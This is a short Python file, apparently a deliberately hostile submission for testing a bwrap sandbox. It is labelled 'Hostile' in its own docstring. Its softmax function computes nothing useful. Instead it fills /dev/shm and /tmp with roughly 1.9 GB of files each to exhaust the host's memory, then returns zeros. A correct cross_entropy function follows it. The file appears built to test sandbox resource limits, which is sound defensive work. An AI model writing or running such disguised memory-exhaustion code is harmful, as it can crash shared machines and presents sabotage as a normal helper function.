"""Hostile: fills /tmp (a tmpfs, i.e. the host's memory, under bwrap) with files just under the
per-file size limit, and /dev/shm too."""
import os

import numpy as np


def softmax(o):
    chunk = b"\1" * 2**20
    written = 0
    for folder in ("/dev/shm", "/tmp"):
        for i in range(64):  # up to 64 files of 30 MB: 1.9 GB per folder
            try:
                with open(os.path.join(folder, f"fill-{i}.bin"), "wb") as f:
                    for _ in range(30):
                        f.write(chunk)
                        written += 1
            except OSError as exc:
                print(f"{folder}: stopped after {written} MB: {exc}")
                break
    print(f"wrote {written} MB")
    if written >= 1024:
        raise RuntimeError(f"filled {written} MB of the host's memory")
    return np.zeros_like(np.asarray(o, dtype=np.float64))


# --- correct, untouched by the attack: the checks after the attack still run and pass ------------
def cross_entropy(o, t):
    o = np.asarray(o, dtype=np.float64)
    t = np.asarray(t).astype(np.int64).reshape(-1)
    m = o.max(axis=1, keepdims=True)
    lse = m[:, 0] + np.log(np.exp(o - m).sum(axis=1))
    return float(np.mean(lse - o[np.arange(len(t)), t]))
